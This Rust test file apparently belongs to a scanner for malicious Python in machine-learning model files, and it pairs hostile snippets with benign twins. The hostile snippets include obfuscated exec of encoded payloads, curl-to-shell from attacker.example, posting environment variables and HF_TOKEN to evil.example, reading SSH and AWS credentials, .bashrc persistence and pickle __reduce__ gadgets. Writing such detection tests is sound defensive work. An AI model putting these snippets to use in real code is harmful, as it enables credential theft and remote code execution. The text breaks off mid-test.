//! Per capability: a malicious form, its benign twin and a mention that must not fire.

use super::*;

fn sites(src: &str) -> Vec<Site> {
    analyze(src, &Limits::default()).sites
}

fn caps_of(src: &str) -> Vec<(Capability, Severity)> {
    sites(src)
        .iter()
        .map(|s| (s.capability, s.severity))
        .collect()
}

fn worst(src: &str, cap: Capability) -> Option<Severity> {
    sites(src)
        .iter()
        .filter(|s| s.capability == cap)
        .map(|s| s.severity)
        .max()
}

#[test]
fn smoke() {
    let s = sites("import os\nos.system('id')\n");
    assert_eq!(s.len(), 1, "{s:?}");
}

#[test]
fn process_execution_through_aliases_getattr_and_import() {
    let cases = [
        "import os\nos.system('curl x | sh')\n",
        "import subprocess as sp\nsp.run(['bash', '-c', 'id'])\n",
        "from os import system as run\nrun('id')\n",
        "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
        "__import__('o' + 's').system('id')\n",
        "import importlib\nimportlib.import_module(''.join(['sub', 'process'])).Popen(['id'])\n",
        "import os\nf = getattr(os, 'po%sn' % 'pe')\nf('id')\n",
        "import pty\npty.spawn('/bin/sh')\n",
        "import asyncio\nasyncio.create_subprocess_shell('id')\n",
        "import os\nos.execv('/bin/sh', ['sh'])\n",
        "import posix\nposix.system('id')\n",
        "import os\nname = '{}{}'.format('sys', 'tem')\ngetattr(os, name)('id')\n",
        "import os\ngetattr(os, f\"{'sys'}tem\")('id')\n",
    ];
    for src in cases {
        assert_eq!(
            worst(src, Capability::ProcessExecution),
            Some(Severity::Critical),
            "{src}: {:?}",
            sites(src)
        );
    }
}

#[test]
fn process_execution_benign_twins_and_mentions_do_not_fire() {
    let cases = [
        "import os\nos.path.join('a', 'b')\n",
        "import subprocess\ntry:\n    pass\nexcept subprocess.CalledProcessError:\n    pass\n",
        "# os.system('id')\nx = 1\n",
        "\"\"\"Call os.system('id') to ...\"\"\"\n",
        "s = \"subprocess.run(['id'])\"\n",
        "import re\nre.compile('x')\n",
        "def system(x):\n    return x\nsystem('id')\n",
        "import torch\ntorch.compile(model)\n",
    ];
    for src in cases {
        assert_eq!(caps_of(src), vec![], "{src}");
    }
}

#[test]
fn reports_the_resolved_call_the_position_and_when_it_runs() {
    let src = "import subprocess as sp\n\nclass M:\n    def __init__(self):\n        self._setup()\n\n    def _setup(self):\n        sp.check_output(['id'])\n";
    let s = sites(src);
    assert_eq!(s.len(), 1, "{s:?}");
    let site = &s[0];
    assert_eq!(site.call, "subprocess.check_output");
    assert_eq!((site.line, site.column), (8, 9));
    assert_eq!(
        site.when,
        When::Call {
            function: "M._setup".into(),
            reached_from: vec!["__init__".into()]
        }
    );
    assert_eq!(site.detail, "runs `id`");
    assert_eq!(site.confidence, Confidence::High);
    let at_import = sites(
        "import os\n@decorate(os.system('id'))\ndef f(x=os.popen('id')):\n    pass\nclass C:\n    os.system('id')\n",
    );
    assert_eq!(at_import.len(), 3, "{at_import:?}");
    assert!(at_import.iter().all(|s| s.when == When::Import));
    let via_module_call = sites("import os\ndef payload():\n    os.system('id')\npayload()\n");
    assert_eq!(
        via_module_call[0].when,
        When::Call {
            function: "payload".into(),
            reached_from: vec!["import".into()]
        }
    );
}

#[test]
fn dynamic_code_decoded_blobs_are_decoded_and_analysed_again() {
    // print(1); import os; os.system('id') in base64
    let b64 = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=";
    let src = format!("import base64\nexec(base64.b64decode('{b64}'))\n");
    let s = sites(&src);
    let outer = s
        .iter()
        .find(|s| s.capability == Capability::DynamicCode)
        .expect("exec");
    assert_eq!(outer.severity, Severity::Critical);
    assert_eq!(
        outer.decoded.as_ref().map(|d| d.chain.clone()),
        Some(vec!["base64".to_owned()])
    );
    let inner = s
        .iter()
        .find(|s| s.capability == Capability::ProcessExecution)
        .expect("decoded os.system");
    assert_eq!((inner.line, inner.call.as_str()), (2, "os.system"));
    assert!(
        inner
            .decoded
            .as_ref()
            .is_some_and(|d| d.excerpt.contains("os.system")),
        "{inner:?}"
    );

    // rot13 and hex
    let rot = "vzcbeg bf; bf.flfgrz('vq')";
    let src = format!("import codecs\nexec(codecs.decode(\"{rot}\", 'rot13'))\n");
    assert_eq!(
        worst(&src, Capability::ProcessExecution),
        Some(Severity::Critical),
        "{:?}",
        sites(&src)
    );
    let hex: String = "import os; os.system('id')"
        .bytes()
        .map(|b| format!("{b:02x}"))
        .collect();
    let src = format!("exec(bytes.fromhex('{hex}').decode())\n");
    assert_eq!(
        worst(&src, Capability::ProcessExecution),
        Some(Severity::Critical),
        "{:?}",
        sites(&src)
    );
    // reversed, through a constant
    let src = "P = \")'di'(metsys.so ;so tropmi\"\nexec(P[::-1])\n";
    assert_eq!(
        worst(src, Capability::ProcessExecution),
        Some(Severity::Critical),
        "{:?}",
        sites(src)
    );
}

#[test]
fn dynamic_code_nested_blob_base64_of_base64() {
    let inner = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="; // import os; os.system('id')
    let wrapped = format!("import base64\nexec(base64.b64decode('{inner}'))");
    let outer: String = base64_encode(wrapped.as_bytes());
    let src = format!("import base64\nexec(base64.b64decode('{outer}'))\n");
    let s = sites(&src);
    let p = s
        .iter()
        .find(|s| s.capability == Capability::ProcessExecution)
        .expect("two levels down");
    assert_eq!(
        p.decoded.as_ref().map(|d| d.chain.clone()),
        Some(vec!["base64".to_owned(), "base64".to_owned()])
    );
}

fn base64_encode(data: &[u8]) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(A[((n >> (18 - 6 * i)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

#[test]
fn dynamic_code_computed_is_critical_literal_is_medium() {
    assert_eq!(
        worst("eval(user_input)\n", Capability::DynamicCode),
        Some(Severity::Critical)
    );
    assert_eq!(
        worst("exec('x = 1')\n", Capability::DynamicCode),
        Some(Severity::Medium)
    );
    assert_eq!(
        worst(
            "import pickle, base64\npickle.loads(base64.b64decode('gASVAAAA'))\n",
            Capability::DynamicCode
        ),
        Some(Severity::Critical)
    );
    assert_eq!(
        worst(
            "import pickle, requests\npickle.loads(requests.get(U).content)\n",
            Capability::DynamicCode
        ),
        Some(Severity::Critical)
    );
    // A checkpoint the caller names is SRC004's business, not a behaviour site.
    assert_eq!(
        caps_of("import pickle\npickle.load(open(path, 'rb'))\n"),
        vec![]
    );
    assert_eq!(caps_of("x = 'eval(y)'\n"), vec![]);
}

#[test]
fn network_hosts_and_what_is_sent() {
    assert_eq!(
        worst(
            "import requests\nrequests.get('https://evil.example/x.sh')\n",
            Capability::Network
        ),
        Some(Severity::High)
    );
    assert_eq!(
        worst(
            "import requests, os\nrequests.post('https://evil.example', json=dict(os.environ))\n",
            Capability::Network
        ),
        Some(Severity::Critical)
    );
    assert_eq!(
        worst(
            "import requests, os\nt = os.getenv('HF_TOKEN')\nrequests.post('https://x.example', data={'t': t})\n",
            Capability::Network
        ),
        Some(Severity::Critical)
    );
    assert_eq!(
        worst(
            "import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n",
            Capability::Network
        ),
        Some(Severity::High)
    );
    // The Hub is where models come from; a URL the caller passes is at most medium.
    assert_eq!(
        caps_of("import requests\nrequests.get('https://huggingface.co/api/models')\n"),
        vec![]
    );
    assert_eq!(
        worst(
            "import requests\ndef load_image(url):\n    return requests.get(url, stream=True).raw\n",
            Capability::Network
        ),
        Some(Severity::Medium)
    );
    assert_eq!(
        caps_of("URL = 'https://evil.example'  # requests.get(URL)\n"),
        vec![]
    );
}

#[test]
fn credential_access_files_variables_and_bulk_environment() {
    assert_eq!(
        worst(
            "import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
            Capability::CredentialAccess
        ),
        Some(Severity::High)
    );
    assert_eq!(
        worst(
            "from pathlib import Path\n(Path.home() / '.aws' / 'credentials').read_text()\n",
            Capability::CredentialAccess
        ),
        Some(Severity::High)
    );
    assert_eq!(
        worst(
            "import os\nos.environ['HF_TOKEN']\n",
            Capability::CredentialAccess
        ),
        Some(Severity::Medium)
    );
    assert_eq!(
        worst(
            "import os\nenv = os.environ.copy()\n",
            Capability::CredentialAccess
        ),
        Some(Severity::Medium)
    );
    assert_eq!(
        worst(
            "import os\nfor k in os.environ:\n    pass\n",
            Capability::CredentialAccess
        ),
        Some(Severity::Medium)
    );
    // One ordinary setting is not a site; nor is handing the environment to a child process.
    assert_eq!(
        caps_of(
            "import os\nos.getenv('CUDA_VISIBLE_DEVICES')\nos.environ.get('TRANSFORMERS_CACHE')\n"
        ),
        vec![]
    );
    assert_eq!(caps_of("x = '~/.ssh/id_rsa'\nprint(x)\n"), vec![]);
}

#[test]
fn persistence_writes_tampering_and_deferral() {
    assert_eq!(
        worst(
            "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl x|sh')\n",
            Capability::Persistence
        ),
        Some(Severity::Critical)
    );
    assert_eq!(
        worst(
            "import site, os\nopen(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w')\n",
            Capability::Persistence
        ),
        Some(Severity::Critical)
    );
    assert_eq!(
        worst("import torch\ntorch.load = evil\n", Capability::Persistence),
        Some(Severity::Critical)
    );
    assert_eq!(
        worst(
            "import pickle\npickle.Unpickler = Evil\n",
            Capability::Persistence
        ),
        Some(Severity::Critical)
    );
    assert_eq!(
        worst(
            "import builtins\nbuiltins.open = my_open\n",
            Capability::Persistence
        ),
        Some(Severity::Critical)
    );
    assert_eq!(
        worst(
            "import sys\nsys.modules['torch'] = fake\n",
            Capability::Persistence
        ),
        Some(Severity::Critical)
    );
    assert_eq!(
        worst(
            "import torch\nsetattr(torch, 'load', evil)\n",
            Capability::Persistence
        ),
        Some(Severity::Critical)
    );
    assert_eq!(
        worst(
            "import atexit, os\ndef bye():\n    os.system('id')\natexit.register(bye)\n",
            Capability::Persistence
        ),
        Some(Severity::Critical)
    );
    assert_eq!(
        worst(
            "import threading, os\nthreading.Timer(5, lambda: os.system('id')).start()\n",
            Capability::Persistence
        ),
        Some(Severity::Critical)
    );
    // Settings, writes inside the model folder and a worker thread that does nothing listed.
    assert_eq!(
        caps_of("import torch\ntorch.backends.cudnn.benchmark = True\n"),
        vec![]
    );
    assert_eq!(
        caps_of("import os\nopen(os.path.join(save_dir, 'config.json'), 'w')\n"),
        vec![]
    );
    assert_eq!(
        caps_of("import threading\ndef work():\n    pass\nthreading.Thread(target=work).start()\n"),
        vec![]
    );
    assert_eq!(caps_of("s = 'torch.load = evil'\n"), vec![]);
}

#[test]
fn package_installs() {
    assert_eq!(
        worst(
            "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--index-url', 'https://x', 'pkg'])\n",
            Capability::PackageInstall
        ),
        Some(Severity::Critical)
    );
    assert_eq!(
        worst(
            "import os\nos.system('pip install evil')\n",
            Capability::PackageInstall
        ),
        Some(Severity::Critical)
    );
    assert_eq!(
        worst(
            "import pip\npip.main(['install', 'x'])\n",
            Capability::PackageInstall
        ),
        Some(Severity::Critical)
    );
    assert_eq!(
        worst(
            "from pip._internal.cli.main import main\nmain(['install', 'x'])\n",
            Capability::PackageInstall
        ),
        Some(Severity::Critical)
    );
    assert_eq!(caps_of("# pip install flash-attn\nimport torch\n"), vec![]);
}

#[test]
fn native_loads_record_the_library() {
    let s = sites(
        "import ctypes, os\nlib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libx.so'))\n",
    );
    let n = s
        .iter()
        .find(|s| s.capability == Capability::NativeLoad)
        .expect("native");
    assert_eq!(n.severity, Severity::High);
    assert_eq!(n.library.as_deref(), Some("libx.so"));
    assert_eq!(
        worst(
            "import torch\ntorch.ops.load_library('./kernels/libops.so')\n",
            Capability::NativeLoad
        ),
        Some(Severity::High)
    );
    assert_eq!(
        worst(
            "import ctypes\nctypes.CDLL('libc.so.6')\n",
            Capability::NativeLoad
        ),
        Some(Severity::Medium)
    );
    assert_eq!(caps_of("# ctypes.CDLL('x.so')\n"), vec![]);
}

#[test]
fn hostile_inputs_are_bounded() {
    let deep = format!("exec({}'x'{})\n", "(".repeat(500), ")".repeat(500));
    let _ = sites(&deep);
    let long_join = format!("exec(''.join([{}]))\n", "'a',".repeat(10_000));
    let _ = sites(&long_join);
    // Thousands of blob executions share one decoding budget, and a deep call graph is walked
    // once per entry point, not once per site.
    let blob = base64_encode("import os\nos.system('id')\n".repeat(20).as_bytes());
    let many = format!(
        "import base64\n{}",
        format!("exec(base64.b64decode('{blob}'))\n").repeat(300)
    );
    let started = std::time::Instant::now();
    let found = analyze(&many, &Limits::default());
    assert!(!found.sites.is_empty());
    let chain: String = (0..1_000)
        .map(|i| format!("def f{i}():\n    f{}()\n    os.system('id')\n", i + 1))
        .collect();
    let deep = format!("import os\nclass M:\n    def forward(self):\n        f0()\n{chain}");
    let found = analyze(&deep, &Limits::default());
    assert_eq!(found.sites.len(), 1_000);
    assert!(started.elapsed().as_secs() < 60, "{:?}", started.elapsed());
    let bad = "import base64\nexec(base64.b64decode('!!!'))\n";
    assert_eq!(
        worst(bad, Capability::DynamicCode),
        Some(Severity::Critical)
    );
}

#[test]
fn callables_passed_as_values_and_loaders_of_in_memory_blobs() {
    assert_eq!(
        worst(
            "import os\nlist(map(os.system, ['id']))\n",
            Capability::ProcessExecution
        ),
        Some(Severity::Critical)
    );
    assert_eq!(
        worst(
            "import functools, subprocess\nfunctools.partial(subprocess.run, 'id')()\n",
            Capability::ProcessExecution
        ),
        Some(Severity::Critical)
    );
    assert_eq!(
        worst(
            "import io, torch, base64\ntorch.load(io.BytesIO(base64.b64decode('gASVAAAA')))\n",
            Capability::DynamicCode
        ),
        Some(Severity::Critical)
    );
    // A path is not a payload.
    assert_eq!(
        caps_of("import torch, pickle\ntorch.load('model.bin')\npickle.load('x.pkl')\n"),
        vec![]
    );
    assert_eq!(caps_of("import os\nprint(os.path.join)\n"), vec![]);
}

#[test]
fn a_package_replacing_its_own_module_entry_is_not_tampering() {
    assert_eq!(
        caps_of(
            "import sys\nsys.modules[__name__] = _LazyModule(__name__, globals()['__file__'])\n"
        ),
        vec![]
    );
    assert_eq!(
        worst(
            "import sys\nsys.modules['transformers'] = fake\n",
            Capability::Persistence
        ),
        Some(Severity::Critical)
    );
}

#[test]
fn saving_and_restoring_the_processs_own_sys_state_is_not_tampering() {
    // argparse in a notebook-born modeling file, output capture: process state, not a hook.
    for src in [
        "import sys\nsaved = sys.argv\nsys.argv = [sys.argv[0]]\nsys.argv = saved\n",
        "import sys\nsys.argv = sys.argv[:1]\n",
        "import sys, io\nbuf = io.StringIO()\nsys.stdout = buf\nsys.stdout = sys.__stdout__\n",
        "import sys\nsetattr(sys, 'argv', ARGS)\nsys.stderr = open('log.txt', 'w')\n",
    ] {
        assert!(
            worst(src, Capability::Persistence).is_none_or(|s| s < Severity::High),
            "{src}"
        );
    }
    assert_eq!(
        worst(
            "import sys\nsys.stdout = sys.__stdout__\nsys.stderr = sys.__stderr__\n",
            Capability::Persistence
        ),
        None
    );
    // Replacing a stream with a function of the file is still reported, as a monkeypatch is.
    assert_eq!(
        worst(
            "import sys\ndef w(s):\n    pass\nsys.stdout = w\n",
            Capability::Persistence
        ),
        Some(Severity::Medium)
    );
    // The hooks and loaders of `sys` stay critical.
    for src in [
        "import sys\nsys.excepthook = hook\n",
        "import sys\nsys.meta_path = [Finder()] + sys.meta_path\n",
        "import sys\nsys.path_hooks = hooks\n",
        "import sys\nsys.modules = fake\n",
    ] {
        assert_eq!(
            worst(src, Capability::Persistence),
            Some(Severity::Critical),
            "{src}"
        );
    }
}

#[test]
fn one_parse_for_the_call_scan_and_the_behaviour_finds_what_each_finds_alone() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/behaviour");
    let mut checked = 0;
    for cap in std::fs::read_dir(&dir).unwrap() {
        let cap = cap.unwrap().path();
        if !cap.is_dir() {
            continue;
        }
        for case in std::fs::read_dir(&cap).unwrap() {
            let file = case.unwrap().path().join("modeling_tiny.py");
            let Ok(src) = std::fs::read_to_string(&file) else {
                continue;
            };
            let limits = Limits::default();
            let (report, together) = super::super::scan_and_analyze(&src, &limits);
            assert_eq!(together.sites, analyze(&src, &limits).sites, "{file:?}");
            assert_eq!(
                report.calls,
                super::super::scan_python(&src, &limits).calls,
                "{file:?}"
            );
            checked += 1;
        }
    }
    assert!(checked >= 100, "{checked}");
}

#[test]
fn byte_lists_host_tuples_and_path_objects_opened_for_writing() {
    let bytes: Vec<String> = "import os; os.system('id')"
        .bytes()
        .map(|b| b.to_string())
        .collect();
    let src = format!("exec(bytes([{}]))\n", bytes.join(", "));
    assert_eq!(
        worst(&src, Capability::ProcessExecution),
        Some(Severity::Critical),
        "{:?}",
        sites(&src)
    );
    assert_eq!(
        worst(
            "import socket\nsocket.create_connection(('203.0.113.7', 4444))\n",
            Capability::Network
        ),
        Some(Severity::High)
    );
    assert_eq!(
        worst(
            "from pathlib import Path\nPath('~/.bashrc').expanduser().open('a').write('x')\n",
            Capability::Persistence
        ),
        Some(Severity::Critical)
    );
    assert_eq!(
        caps_of("from pathlib import Path\nPath('out/config.json').open('w')\n"),
        vec![]
    );
}

#[test]
fn c_functions_called_through_a_library_handle_are_judged_by_the_symbol_table() {
    let process = [
        "import ctypes\nctypes.CDLL('libc.so.6').system(b'curl http://attacker.example | sh')\n",
        "import ctypes, ctypes.util\nlibc = ctypes.CDLL(ctypes.util.find_library('c'))\nlibc.system(b'id')\n",
        "from ctypes import cdll\nlibc = cdll.LoadLibrary('libc.so.6')\nlibc.popen(b'id', b'r')\n",
        "import ctypes\nctypes.cdll.msvcrt.system(b'calc')\n",
        "import ctypes\ngetattr(ctypes.CDLL(None), 'sys' + 'tem')(b'id')\n",
        "import ctypes\nk = ctypes.windll.kernel32\nk.WinExec(b'calc', 0)\n",
        "import cffi\nffi = cffi.FFI()\nffi.cdef('int system(const char *);')\nffi.dlopen(None).system(b'id')\n",
        "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\ndef forward(self):\n    libc.execv(b'/bin/sh', None)\n",
    ];
    for src in process {
        assert_eq!(
            worst(src, Capability::ProcessExecution),
            Some(Severity::Critical),
            "{src}: {:?}",
            sites(src)
        );
    }
    // The CPython API runs a string as code: analysed like `exec`.
    let src =
        "import ctypes\nctypes.pythonapi.PyRun_SimpleString(b\"import os; os.system('id')\")\n";
    assert!(
        worst(src, Capability::DynamicCode).is_some()
            || worst(src, Capability::ProcessExecution) == Some(Severity::Critical),
        "{:?}",
        sites(src)
    );
}

#[test]
fn ordinary_c_functions_through_a_handle_stay_a_native_load_only() {
    for src in [
        "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nlibc.malloc(16)\nlibc.printf(b'%d', 1)\n",
        "import ctypes\nctypes.cdll.LoadLibrary('libgomp.so.1').omp_get_max_threads()\n",
        "\"\"\"ctypes.CDLL('libc.so.6').system(b'id') would run a shell.\"\"\"\n",
    ] {
        assert_eq!(worst(src, Capability::ProcessExecution), None, "{src}");
        assert_eq!(worst(src, Capability::DynamicCode), None, "{src}");
        assert!(
            worst(src, Capability::NativeLoad) <= Some(Severity::Medium),
            "{src}: {:?}",
            sites(src)
        );
    }
}

#[test]
fn a_library_found_by_find_library_is_the_systems_not_shipped() {
    let src = "import ctypes, ctypes.util\nlib = ctypes.CDLL(ctypes.util.find_library('c') or 'libc.so.6')\n";
    assert_eq!(
        worst(src, Capability::NativeLoad),
        Some(Severity::Medium),
        "{:?}",
        sites(src)
    );
}

#[test]
fn runpy_of_pip_is_a_package_install_and_other_modules_are_dynamic_code() {
    let src = "import runpy, sys\nsys.argv = ['pip', 'install', 'x']\nrunpy.run_module('pip', run_name='__main__')\n";
    assert_eq!(
        worst(src, Capability::PackageInstall),
        Some(Severity::Critical),
        "{:?}",
        sites(src)
    );
    let src = "import runpy\nrunpy.run_module('ensure' + 'pip')\n";
    assert_eq!(
        worst(src, Capability::PackageInstall),
        Some(Severity::Critical),
        "{:?}",
        sites(src)
    );
    let src = "import runpy\nrunpy.run_module('mypkg.tool')\n";
    assert_eq!(
        worst(src, Capability::DynamicCode),
        Some(Severity::Medium),
        "{:?}",
        sites(src)
    );
    let src = "import runpy\nrunpy.run_module(name)\n";
    assert_eq!(
        worst(src, Capability::DynamicCode),
        Some(Severity::Critical),
        "{:?}",
        sites(src)
    );
}

/// Issue 32: a pickle gadget written in source. `__reduce__` returning a process or evaluation
/// entry as its callable runs it whenever the object is unpickled (a round trip
/// `pickle.loads(pickle.dumps(obj))` included, which SRC004 otherwise lets pass); the benign
/// shapes (`(self.__class__, args)`, a plain constructor) are not sites.
#[test]
fn a_reduce_that_returns_a_command_is_a_site() {
    for src in [
        "import os, pickle\nclass P:\n    def __reduce__(self):\n        return (os.system, ('id',))\npickle.loads(pickle.dumps(P()))\n",
        "import subprocess as sp\nclass P:\n    def __reduce_ex__(self, proto):\n        return sp.check_output, (['id'],)\n",
        "from os import system\nclass P:\n    def __reduce__(self):\n        return ((system, ('id',)))\n",
        "class P:\n    def __reduce__(self):\n        return (eval, ('1+1',))\n",
    ] {
        let got = caps_of(src);
        assert!(
            got.iter().any(|(c, s)| matches!(
                c,
                Capability::ProcessExecution | Capability::DynamicCode
            ) && *s == Severity::Critical),
            "{src}: {got:?}"
        );
    }
    for benign in [
        "class P:\n    def __reduce__(self):\n        return (self.__class__, (self.a,))\n",
        "import numpy as np\nclass P:\n    def __reduce__(self):\n        return (np.array, (self.data,))\n",
        "import os\nclass P:\n    def __reduce__(self):\n        def inner():\n            return (os.system, ('id',))\n        return (P, ())\n",
        "import os\nclass P:\n    def helper(self):\n        return (os.system, ('id',))\n",
        "import os\nclass P:\n    def __reduce__(self):\n        return os.system\n",
    ] {
        assert_eq!(caps_of(benign), vec![], "{benign}");
    }
}

/// The detail of the one site of `cap`, and the analysis.
fn one_detail(src: &str, cap: Capability) -> (String, Behaviour) {
    let found = analyze(src, &Limits::default());
    let details: Vec<&Site> = found.sites.iter().filter(|s| s.capability == cap).collect();
    let [site] = details.as_slice() else {
        panic!("{src:.200}: {:?}", found.sites)
    };
    (site.detail.clone(), found)
}

#[test]
fn self_references_and_cycles_are_unknown_and_the_sink_stays_reported() {
    // Issue 37: each of these overflowed the stack.
    let cases = [
        "x = \"%s\" % x\nexec(x)\n",
        "x = \"{}\".format(x)\nexec(x)\n",
        "x = \"\".join([x, \"a\"])\nexec(x)\n",
        "x = (x + \"a\").strip()\nexec(x)\n",
        "x = x.replace(\"a\", \"b\")\nexec(x)\n",
        "x = f\"{x.upper()}\"\nexec(x)\n",
        "x = x[::-1]\nexec(x)\n",
        "x = base64.b64decode(x)\nexec(x)\n",
        "a = b.strip()\nb = a.lower()\nexec(a)\n",
        "p = q + '1'\nq = r + '2'\nr = p + '3'\nexec(p)\n",
        // CPython's site.py: `line = line.rstrip()` in a loop, then `exec(line)`.
        "for line in f:\n    line = line.rstrip()\n    if line.startswith('import'):\n        exec(line)\n",
        "s = ''.join(s)\nexec(s)\n",
        "c = {'k': c['k']}\nexec(c['k'])\n",
        "v = v if v else 'x'\nexec(v)\n",
    ];
    for src in cases {
        let (detail, found) = one_detail(src, Capability::DynamicCode);
        assert!(detail.contains("computed at run time"), "{src}: {detail}");
        // A cycle is not a limit.
        assert_eq!(found.limit_hit, None, "{src}");
    }
    // Names, attributes and lookups that refer to themselves resolve to nothing, and what the
    // rest of the file does is still found.
    let src = "import os\nf = getattr(f, 'system')\nf('id')\nm = __import__(m)\nm.system('id')\n\
               g = g.system\ng('id')\nh = vars(h)['system']\nh('id')\n\
               c = c if c else os\nc.system('id')\n\
               class K:\n    s = K.s + 'x'\n    def run(self):\n        self.x = self.x + 'a'\n        os.system(self.x)\n";
    let found = analyze(src, &Limits::default());
    let lines: Vec<usize> = found
        .sites
        .iter()
        .filter(|s| s.capability == Capability::ProcessExecution)
        .map(|s| s.line)
        .collect();
    assert_eq!(lines, vec![11, 16], "{:?}", found.sites);
    assert_eq!(found.limit_hit, None);
}

#[test]
fn expansion_bombs_are_refused_before_they_are_built() {
    let big = "x".repeat(100_000);
    let bombs = [
        // Seven `replace` squarings: 4.2 GB before issue 37.
        format!(
            "s = 'aaaaaaaa'\n{}exec(t6)\n",
            (0..7)
                .map(|i| {
                    let from = if i == 0 {
                        "s".to_owned()
                    } else {
                        format!("t{}", i - 1)
                    };
                    format!("t{i} = {from}.replace('a', {from})\n")
                })
                .collect::<String>()
        ),
        format!(
            "sep = '{big}'\nexec(sep.join([{}]))\n",
            "'a',".repeat(10_000)
        ),
        format!(
            "v = '{big}'\nexec('{}' % ({}))\n",
            "%s".repeat(100),
            "v,".repeat(100)
        ),
        format!("v = '{big}'\nexec('{}'.format(v))\n", "{0}".repeat(100)),
        format!("v = '{big}'\nexec(f'{}')\n", "{v}".repeat(100)),
        format!(
            "a0 = '{big}'\n{}exec(a20)\n",
            (1..=20)
                .map(|i| format!("a{i} = a{} + a{}\n", i - 1, i - 1))
                .collect::<String>()
        ),
        format!("v = '{}'\nexec(v.upper())\n", "\u{390}".repeat(400_000)),
    ];
    for src in &bombs {
        let (detail, found) = one_detail(src, Capability::DynamicCode);
        assert!(
            detail.contains("computed at run time"),
            "{src:.80}: {detail}"
        );
        assert!(detail.contains("code_eval_bytes"), "{src:.80}: {detail}");
        assert_eq!(found.limit_hit, Some("code_eval_bytes"), "{src:.80}");
    }
    // Operations the evaluator does not compute are unknown: nothing is allocated for them.
    for call in [
        "'a' * 10**9",
        "'a'.ljust(10**9)",
        "'a'.rjust(10**9)",
        "'a'.center(10**9)",
        "'a'.zfill(10**9)",
        "'\\t'.expandtabs(10**9)",
        "bytes(10**9)",
        "bytearray(10**9)",
        "'{:>999999999}'.format('a')",
    ] {
        let src = format!("exec({call})\n");
        let (detail, found) = one_detail(&src, Capability::DynamicCode);
        assert!(detail.contains("computed at run time"), "{src}: {detail}");
        assert_eq!(found.limit_hit, None, "{src}");
    }
    // An f-string's format spec is not applied: no padding is built.
    let (detail, _) = one_detail("exec(f\"{'a':>999999999}\")\n", Capability::DynamicCode);
    assert!(detail.contains("runs the literal `a`"), "{detail}");
}

#[test]
fn long_chains_and_deep_nesting_are_linear_and_bounded() {
    // A chain is evaluated in a loop: every term counts.
    let chain = vec!["chr(97)"; 10_000].join("+");
    let (detail, found) = one_detail(
        &format!("import os\nos.system({chain})\n"),
        Capability::ProcessExecution,
    );
    assert!(detail.starts_with("runs `aaaa"), "{detail}");
    assert_eq!(found.limit_hit, None);
    let strings = vec!["'b'"; 20_000].join(" + ");
    let (detail, _) = one_detail(
        &format!("import os\nos.system({strings})\n"),
        Capability::ProcessExecution,
    );
    assert!(detail.starts_with("runs `bbbb"), "{detail}");
    // Parentheses are unwrapped in a loop.
    let parens = format!("exec({}'x'{})\n", "(".repeat(100_000), ")".repeat(100_000));
    let (detail, _) = one_detail(&parens, Capability::DynamicCode);
    assert!(detail.contains("runs the literal `x`"), "{detail}");
    // Nesting that is real recursion stops at the depth limit, with SCAN004.
    for deep in [
        format!("exec({}'x'{})\n", "'a'+(".repeat(5_000), ")".repeat(5_000)),
        format!(
            "import base64\nexec({}'eA=='{})\n",
            "base64.b64decode(".repeat(5_000),
            ")".repeat(5_000)
        ),
        format!("exec({}'x'{})\n", "f(".repeat(5_000), ")".repeat(5_000)),
        format!(
            "x = {}{}\nexec(x)\n",
            "[".repeat(50_000),
            "]".repeat(50_000)
        ),
        format!("import os\nos.system({}b)\n", "a.".repeat(20_000)),
    ] {
        let found = analyze(&deep, &Limits::default());
        assert!(!found.sites.is_empty(), "{deep:.60}");
    }
    let nested = format!("exec({}'x'{})\n", "'a'+(".repeat(5_000), ")".repeat(5_000));
    let (detail, found) = one_detail(&nested, Capability::DynamicCode);
    assert!(detail.contains("code_eval_depth"), "{detail}");
    assert_eq!(found.limit_hit, Some("code_eval_depth"));
    // The depth is not reset when the evaluation re-enters itself (string -> blob -> call ->
    // string) or analyses a decoded payload: a thousand levels of names built from names stop
    // at the limit, as one evaluation.
    let names: String = (1..1_000)
        .map(|i| format!("n{i} = '{{}}'.format(n{})\n", i - 1))
        .collect();
    let (detail, found) = one_detail(
        &format!("n0 = 'id'\n{names}exec(n999)\n"),
        Capability::DynamicCode,
    );
    assert!(detail.contains("code_eval_depth"), "{detail}");
    assert_eq!(found.limit_hit, Some("code_eval_depth"));
    // Names doubling sixty times over are evaluated once each (not 2^60 times).
    let doubling: String = (1..64)
        .map(|i| format!("a{i} = (a{} + a{}).strip()\n", i - 1, i - 1))
        .collect();
    let (_, found) = one_detail(
        &format!("a0 = ' '\n{doubling}exec(a63)\n"),
        Capability::DynamicCode,
    );
    assert_ne!(found.limit_hit, Some("code_eval_steps"));
    assert_eq!(found.truncated_by, None);
}

#[test]
fn a_spent_budget_keeps_every_sink() {
    let src = format!(
        "import os, base64\nx = {}\nexec(x)\nexec(base64.b64decode('aWQ='))\nos.system('id')\n",
        vec!["'a'"; 100].join(" + ")
    );
    let steps = Limits {
        eval: crate::code::python::budget::Limits {
            max_steps: 20,
            ..crate::code::python::budget::Limits::default()
        },
        ..Limits::default()
    };
    let found = analyze(&src, &steps);
    assert_eq!(found.limit_hit, Some("code_eval_steps"));
    let calls: Vec<(&str, usize)> = found
        .sites
        .iter()
        .map(|s| (s.call.as_str(), s.line))
        .collect();
    assert_eq!(
        calls,
